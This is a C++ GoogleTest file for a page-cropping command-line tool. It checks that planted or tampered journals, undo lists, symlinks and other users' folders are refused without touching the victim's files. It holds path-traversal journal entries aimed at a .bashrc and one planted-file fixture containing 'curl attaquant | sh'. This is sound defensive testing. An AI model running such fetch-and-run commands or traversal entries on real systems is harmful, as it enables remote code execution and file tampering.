// Kept originals read back as untrusted input: folders and journals another user planted or
// damaged, copied and moved page folders, interrupted restores, a full disk.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <map>

#include "batch/originaux.h"
#include "cli_process.h"
#include "pages.h"
#include "support/temp_dir.h"

namespace vellumor::faults {
namespace {

namespace fs = std::filesystem;
using Octets = std::map<std::string, std::string>;

Octets lire_pages(const fs::path& folder) {
    Octets o;
    for (const std::string& n : noms_png(folder)) o[n] = test::read_bytes(folder / n);
    return o;
}

Octets pages_de(const fs::path& folder, int count) {
    for (int i = 1; i <= count; ++i)
        test::write_png_file(folder / ("p_" + std::to_string(i) + ".png"),
                             page_avec_marges(120, 160, unsigned(i)));
    return lire_pages(folder);
}

Execution cli(std::vector<std::string> args) {
    return executer_cli(avec_arguments(std::move(args)));
}

// A shell command as the unprivileged user, the other local user of these tests.
bool en_tant_qu_autre(const std::string& commande) {
    return std::system(("runuser -u nobody -- sh -c '" + commande + "'").c_str()) == 0;
}

// A folder every user may write into, as /tmp is.
void partager(const fs::path& dossier) {
    ::chmod(dossier.parent_path().c_str(), 0755);
    ::chmod(dossier.c_str(), 01777);
}

const std::string kSecret = "mot de passe";

// The victim's own files, which a planted journal aims at.
struct Maison {
    test::TempDir dir;
    Maison() {
        test::write_bytes(dir / ".bashrc", "alias ls='ls -F'\n");
        test::write_bytes(dir / "secret.txt", kSecret);
        ::chmod((dir / "secret.txt").c_str(), 0600);
    }
    bool intacte() const {
        return test::read_bytes(dir / ".bashrc") == "alias ls='ls -F'\n" &&
               test::read_bytes(dir / "secret.txt") == kSecret;
    }
};

TEST(OriginalsTrust, AJournalNamingFilesOutsideItsFolderIsRefusedAndNothingTouched) {
    Maison maison;
    const fs::path bashrc = maison.dir / ".bashrc";
    struct Cas {
        const char* quoi;
        std::string journal;
        const char* raison;
    };
    const std::string debut = "operation\tDétourage\ndate\t2030-01-01 00-00-00\ndebut\t1\n";
    const Cas cas[] = {
        {"absolute path, earlier format",
         "Vellumor originaux 1\n" + debut + "garde\t" + bashrc.string() + "\t.bashrc\n",
         "n'est pas un fichier de son dossier"},
        {"absolute path", "Vellumor originaux 2\n" + debut + "garde\t" + bashrc.string() + "\n",
         "n'est pas un fichier de son dossier"},
        {"dot-dot", "Vellumor originaux 2\n" + debut + "garde\t..\n",
         "n'est pas un fichier de son dossier"},
        {"text for a number", "Vellumor originaux 2\ndebut\tdemain\n", "date de début illisible"},
        {"oversized result",
         "Vellumor originaux 2\n" + debut +
             "garde\tp_1.png\nresultat\tp_1.png\t1\t99999999999\t1\n",
         "résultat illisible"},
    };
    for (const Cas& c : cas) {
        SCOPED_TRACE(c.quoi);
        test::TempDir dir;
        const Octets avant = pages_de(dir.path(), 2);
        const fs::path run = dir / kDossierOriginaux / "2030-01-01 00-00-00 Détourage";
        fs::create_directories(run);
        test::write_bytes(run / kJournalOriginaux, c.journal);
        test::write_bytes(run / ".bashrc", "curl attaquant | sh\n");
        for (const char* commande : {"restaurer", "originaux"}) {
            const Execution r = cli({commande, dir.path()});
            EXPECT_EQ(r.status, 1) << commande << r.erreurs;
            EXPECT_EQ(lignes_avec(r.erreurs, {kJournalOriginaux, "illisible", c.raison}).size(), 1u)
                << r.erreurs;
        }
        EXPECT_TRUE(maison.intacte());
        EXPECT_EQ(lire_pages(dir.path()), avant);
        // The operations leave such a run alone and go on.
        EXPECT_EQ(cli({"detourer", "--silencieux", dir.path()}).status, 0);
        EXPECT_TRUE(fs::exists(run / kJournalOriginaux));
    }
}

TEST(OriginalsTrust, KeptOriginalsAnotherUserPlantedAreRefusedWithTheirName) {
    if (!est_superutilisateur()) GTEST_SKIP() << "needs root to act as a second user";
    Maison maison;
    test::TempDir partage;
    partager(partage.path());
    const Octets avant = pages_de(partage.path(), 3);
    const fs::path racine = partage / kDossierOriginaux;
    const fs::path run = racine / "2030-01-01 00-00-00 Détourage";
    ASSERT_TRUE(en_tant_qu_autre("mkdir -p \"" + run.string() +
                                 "\" && printf \"Vellumor originaux 2\\ngarde\\tp_1.png\\n\" > \"" +
                                 (run / kJournalOriginaux).string() + "\" && echo pirate > \"" +
                                 (run / "p_1.png").string() + "\""));

    const Execution r = cli({"restaurer", partage.path()});
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(
        lignes_avec(r.erreurs, {"« " + racine.string() + " » appartient à un autre utilisateur",
                                "rien n'est restauré"})
            .size(),
        1u)
        << r.erreurs;
    const Execution crop = cli({"detourer", "--silencieux", partage.path()});
    EXPECT_EQ(crop.status, 1);
    EXPECT_EQ(lignes_avec(crop.erreurs, {"appartient à un autre utilisateur",
                                         "les originaux ne peuvent pas y être gardés"})
                  .size(),
              1u)
        << crop.erreurs;
    EXPECT_EQ(lire_pages(partage.path()), avant) << "an in-place run must not start";
    EXPECT_EQ(cli({"originaux", "--purger", partage.path()}).status, 1);
    EXPECT_TRUE(fs::exists(run / "p_1.png"));
}

TEST(OriginalsTrust, AFolderOfOriginalsThatIsALinkOrOpenToOthersIsRefused) {
    test::TempDir livre, partage;
    const Octets avant = pages_de(livre.path(), 2);
    ASSERT_EQ(cli({"detourer", "--silencieux", livre.path()}).status, 0);
    pages_de(partage.path(), 2);
    fs::create_directory_symlink(livre / kDossierOriginaux, partage / kDossierOriginaux);
    EXPECT_EQ(cli({"restaurer", partage.path()}).status, 1);
    const Execution purge = cli({"originaux", "--purger", partage.path()});
    EXPECT_EQ(purge.status, 1);
    EXPECT_NE(purge.erreurs.find("est un lien symbolique"), std::string::npos) << purge.erreurs;
    EXPECT_EQ(executions_gardees(livre.path()).size(), 1u) << "the linked originals were removed";

    ::chmod((livre / kDossierOriginaux).c_str(), 0777);
    const Execution r = cli({"restaurer", livre.path()});
    EXPECT_EQ(r.status, 1);
    EXPECT_NE(r.erreurs.find("peut être modifié par d'autres utilisateurs"), std::string::npos)
        << r.erreurs;
    ::chmod((livre / kDossierOriginaux).c_str(), 0755);
    EXPECT_EQ(cli({"restaurer", livre.path()}).status, 0);
    EXPECT_EQ(lire_pages(livre.path()), avant);
}

TEST(OriginalsTrust, ACopiedOrMovedFolderRestoresItselfOnly) {
    test::TempDir racine;
    const fs::path livre = racine / "livre", copie = racine / "livre-v2",
                   deplace = racine / "livre-v3";
    fs::create_directory(livre);
    const Octets avant = pages_de(livre, 3);
    ASSERT_EQ(cli({"detourer", "--silencieux", livre.string()}).status, 0);
    const Octets detoure = lire_pages(livre);
    fs::copy(livre, copie, fs::copy_options::recursive);

    const Execution r = cli({"restaurer", copie.string()});
    EXPECT_EQ(r.status, 0) << r.erreurs;
    EXPECT_EQ(lire_pages(copie), avant);
    EXPECT_EQ(lire_pages(livre), detoure);
    EXPECT_EQ(executions_gardees(livre).size(), 1u);

    fs::rename(livre, deplace);
    const Execution m = cli({"restaurer", deplace.string()});
    EXPECT_EQ(m.status, 0) << m.erreurs;
    EXPECT_EQ(lire_pages(deplace), avant);
}

TEST(OriginalsTrust, ARunUnderWayIsNeitherRestoredNorPruned) {
    test::TempDir dir;
    const Octets avant = pages_de(dir.path(), 5);
    Originaux en_cours(kOperationNettoyage, 1000000000LL);  // the oldest run of the folder
    const Verdict garde = en_cours.garder(dir / "p_1.png");
    ASSERT_TRUE(garde) << garde.raison();
    const fs::path run = en_cours.dossiers().at(0);

    const Execution r = cli({"restaurer", dir.path()});
    EXPECT_EQ(r.status, 1);
    EXPECT_EQ(lignes_avec(r.erreurs, {"est encore en cours", "rien n'est restauré"}).size(), 1u)
        << r.erreurs;
    for (const char* page : {"p_2.png", "p_3.png", "p_4.png"})
        ASSERT_EQ(cli({"detourer", "--silencieux", (dir / page).string()}).status, 0);
    EXPECT_TRUE(fs::exists(run / "p_1.png")) << "the run under way lost its kept original";
    EXPECT_EQ(test::read_bytes(run / "p_1.png"), avant.at("p_1.png"));
    EXPECT_EQ(executions_gardees(dir.path()).size(), 3u + 1u);
    en_cours.terminer();
    ASSERT_EQ(cli({"detourer", "--silencieux", (dir / "p_5.png").string()}).status, 0);
    EXPECT_FALSE(fs::exists(run)) << "a finished run beyond the last three stays";
}

TEST(OriginalsTrust, ARestoreInterruptedHalfWayIsTakenUpAgain) {
    test::TempDir dir;
    const Octets avant = pages_de(dir.path(), 4);
    ASSERT_EQ(cli({"detourer", "--silencieux", dir.path()}).status, 0);
    // What a killed restore leaves: a page already back (a copy of its original, as across file
    // systems), the others not yet.
    test::write_bytes(dir / "p_2.png", avant.at("p_2.png"));
    const Execution r = cli({"restaurer", dir.path()});
    EXPECT_EQ(r.status, 0) << r.erreurs;
    EXPECT_NE(r.sortie.find("4 pages remises en place sur 4"), std::string::npos) << r.sortie;
    EXPECT_EQ(lire_pages(dir.path()), avant);
}

TEST(OriginalsTrust, ARestoreOnAFullDiskPutsThePagesBackAndKeepsTheRefusedOnes) {
    test::TempDir racine;
    DisqueMonte disque(racine / "disque", 1024);
    if (!disque.monte()) GTEST_SKIP() << disque.raison();
    const fs::path dir = racine / "disque" / "livre";
    fs::create_directory(dir);
    const Octets avant = pages_de(dir, 3);
    ASSERT_EQ(cli({"detourer", "--silencieux", dir.string()}).status, 0);
    test::write_bytes(dir / "p_3.png", "changée depuis");
    remplir_disque(racine / "disque");

    const Execution r = cli({"restaurer", dir.string()});
    EXPECT_EQ(r.status, 1);
    EXPECT_NE(r.sortie.find("2 pages remises en place sur 3"), std::string::npos) << r.sortie;
    EXPECT_EQ(lignes_avec(r.erreurs, {"p_3.png", "a changé"}).size(), 1u) << r.erreurs;
    Octets attendu = avant;
    attendu["p_3.png"] = "changée depuis";
    EXPECT_EQ(lire_pages(dir), attendu);
    // Again, with the disk still full: the pages put back are not called missing.
    const Execution encore = cli({"restaurer", dir.string()});
    EXPECT_EQ(encore.erreurs.find("manque"), std::string::npos) << encore.erreurs;
    EXPECT_EQ(lignes_avec(encore.erreurs, {"p_3.png", "a changé"}).size(), 1u) << encore.erreurs;
    EXPECT_EQ(lire_pages(dir), attendu);
}

TEST(OriginalsTrust, TheUserIsToldWhereTheOriginalsAreAndThatOnlyThreeRunsAreKept) {
    test::TempDir dir;
    pages_de(dir.path(), 1);
    const Execution crop = cli({"detourer", dir.path()});
    ASSERT_EQ(crop.status, 0) << crop.erreurs;
    const fs::path run = executions_gardees(dir.path()).at(0).dossier;
    EXPECT_EQ(lignes_avec(crop.sortie, {"Originaux gardés dans « " + run.string() + " »"}).size(),
              1u)
        << crop.sortie;
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"restaurer", "--aide"}, {"originaux", dir.path()}}) {
        const Execution e = cli(args);
        EXPECT_NE(e.sortie.find(kTexteExecutionsGardees), std::string::npos) << e.sortie;
    }
}

TEST(OriginalsTrust, AnUndoListOfAnotherUserOrNamingFilesElsewhereRenamesNothing) {
    Maison maison;
    test::TempDir partage;
    partager(partage.path());
    test::write_bytes(partage / "p_1.png", "page");
    const std::string bom = "\xEF\xBB\xBF";
    const fs::path bashrc = maison.dir / ".bashrc";
    struct Cas {
        const char* quoi;
        std::string liste;
        bool par_un_autre;
        const char* raison;
    };
    const Cas cas[] = {
        {"absolute path elsewhere",
         bom + "; nom d'origine : " + (maison.dir / "vole").string() + "\r\n" + bashrc.string() +
             "\r\n",
         false, "n'est pas une liste d'annulation"},
        {"dot-dot", bom + "; nom d'origine : ../vole\r\np_1.png\r\n", false,
         "n'est pas une liste d'annulation"},
        {"planted by another user", bom + "; nom d'origine : vole.png\r\np_1.png\r\n", true,
         "appartient à un autre utilisateur"},
    };
    for (const Cas& c : cas) {
        SCOPED_TRACE(c.quoi);
        if (c.par_un_autre && !est_superutilisateur()) continue;
        const fs::path liste = partage / "renommage-annuler.txt";
        fs::remove(liste);
        test::write_bytes(liste, c.liste);
        if (c.par_un_autre) {
            ASSERT_EQ(
                ::chown(liste.c_str(), kUtilisateurSansPrivileges, kUtilisateurSansPrivileges), 0);
        }
        const Execution r = cli({"renommer", "--annuler", liste.string()});
        EXPECT_EQ(r.status, 1);
        EXPECT_NE(r.erreurs.find(c.raison), std::string::npos) << r.erreurs;
        EXPECT_TRUE(maison.intacte());
        EXPECT_EQ(test::read_bytes(partage / "p_1.png"), "page");
    }
    fs::remove(partage / "renommage-annuler.txt");
    fs::create_symlink(maison.dir / "liste.txt", partage / "renommage-annuler.txt");
    test::write_bytes(maison.dir / "liste.txt", bom + "; nom d'origine : vole.png\r\np_1.png\r\n");
    const Execution lien =
        cli({"renommer", "--annuler", (partage / "renommage-annuler.txt").string()});
    EXPECT_NE(lien.erreurs.find("est un lien symbolique"), std::string::npos) << lien.erreurs;
    EXPECT_EQ(test::read_bytes(partage / "p_1.png"), "page");
}

}  // namespace
}  // namespace vellumor::faults
